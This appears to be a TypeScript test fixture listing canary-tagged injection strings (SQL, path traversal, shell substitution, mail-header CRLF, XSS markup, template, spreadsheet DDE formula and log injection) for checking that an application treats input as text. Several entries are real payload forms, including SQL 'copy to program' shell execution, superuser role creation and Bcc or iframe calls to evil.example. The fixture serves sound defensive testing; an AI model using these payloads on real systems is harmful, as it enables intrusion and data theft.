/**
 * Texts that would do something where somebody forgot to treat text as text. Each carries the canary, so that
 * what it did, or that it only stands there, can be told. Written for this house's own places: PostgreSQL, the
 * file system, headers of HTTP and mail, HTML, spreadsheets, and lines of a log.
 */
export type Injection = {
  kind: 'sql' | 'path' | 'header' | 'markup' | 'template' | 'formula' | 'log';
  text: string;
};

/** Nothing of ours is called like this. */
export const CANARY = 'canary7';

const sql = [
  `'; create table ${CANARY} (a int); --`,
  `' or '1'='1' -- ${CANARY}`,
  `") ; drop table persons; -- ${CANARY}`,
  `' union select password, '${CANARY}' from admins --`,
  `$$; create role ${CANARY} superuser; $$`,
  `\\'; copy (select '${CANARY}') to program 'touch /tmp/${CANARY}'; --`,
  `1; select pg_sleep(9), '${CANARY}'`,
  `' || (select set_config('holdfast.tenant', '${CANARY}', false)) || '`,
  `E'\\x27; create schema ${CANARY}; --`,
];
const path = [
  `../../../../tmp/${CANARY}`,
  `..\\..\\${CANARY}`,
  `/tmp/${CANARY}`,
  `....//....//tmp/${CANARY}`,
  `%2e%2e%2ftmp%2f${CANARY}`,
  `file:///tmp/${CANARY}`,
  `$(touch /tmp/${CANARY})`,
  `\`touch /tmp/${CANARY}\``,
  `| touch /tmp/${CANARY}`,
  `/tmp/${CANARY}\u0000.png`,
];
const header = [
  `Ada\r\nBcc: ${CANARY}@evil.example`,
  `Ada\nSet-Cookie: ${CANARY}=1`,
  `Ada\r\n\r\n<b>${CANARY}</b>`,
  `Ada\r\nX-${CANARY}: 1`,
  `Ada\u2028X-${CANARY}: 1`,
  `Ada\u0085X-${CANARY}: 1`,
  `=?utf-8?q?Ada=0D=0ABcc=3A_${CANARY}=40evil.example?=`,
  `${CANARY}@example.org>, <other@evil.example`,
];
const markup = [
  `<script>document.title='${CANARY}'</script>`,
  `"><img src=x onerror="document.title='${CANARY}'">`,
  `<svg onload=document.title='${CANARY}'>`,
  `javascript:document.title='${CANARY}'`,
  `<a href="javascript:document.title='${CANARY}'">x</a>`,
  `</title><iframe src="//evil.example/${CANARY}">`,
  `<style>@import '//evil.example/${CANARY}'</style>`,
  `<img src="https://evil.example/${CANARY}.png">`,
  `&lt;script&gt;${CANARY}&lt;/script&gt;`,
  `<!--${CANARY}--><b>`,
  `${CANARY}\u202e<gnp.exe`,
];
const template = [
  `\${document.title='${CANARY}'}`,
  `{{constructor.constructor('document.title="${CANARY}"')()}}`,
  `<%= '${CANARY}' %>`,
  `#{7*7}${CANARY}`,
  `%s%n%x${CANARY}`,
  `\\u003cb\\u003e${CANARY}`,
];
const formula = [
  `=HYPERLINK("https://evil.example/${CANARY}","x")`,
  `=cmd|' /C calc'!${CANARY}`,
  `+1+cmd|' /C calc'!${CANARY}`,
  `-2+3+cmd|' /C calc'!${CANARY}`,
  `@SUM(1+1)*cmd|' /C calc'!${CANARY}`,
  `\t=1+1${CANARY}`,
  `\r=1+1${CANARY}`,
  `\n=1+1${CANARY}`,
  `\uff1d1+1${CANARY}`,
  `",=1+1${CANARY}`,
];
const log = [
  `Ada\n{"level":"error","msg":"${CANARY}"}`,
  `Ada\r\n2026-01-01 ${CANARY} signed in`,
  `\u001b[31m${CANARY}\u001b[0m`,
  `\u0008\u0008\u0008${CANARY}`,
  `","${CANARY}":"1`,
];

const of = (kind: Injection['kind'], texts: readonly string[]): Injection[] =>
  texts.map((text) => ({ kind, text }));

export const INJECTIONS: readonly Injection[] = [
  ...of('sql', sql),
  ...of('path', path),
  ...of('header', header),
  ...of('markup', markup),
  ...of('template', template),
  ...of('formula', formula),
  ...of('log', log),
];
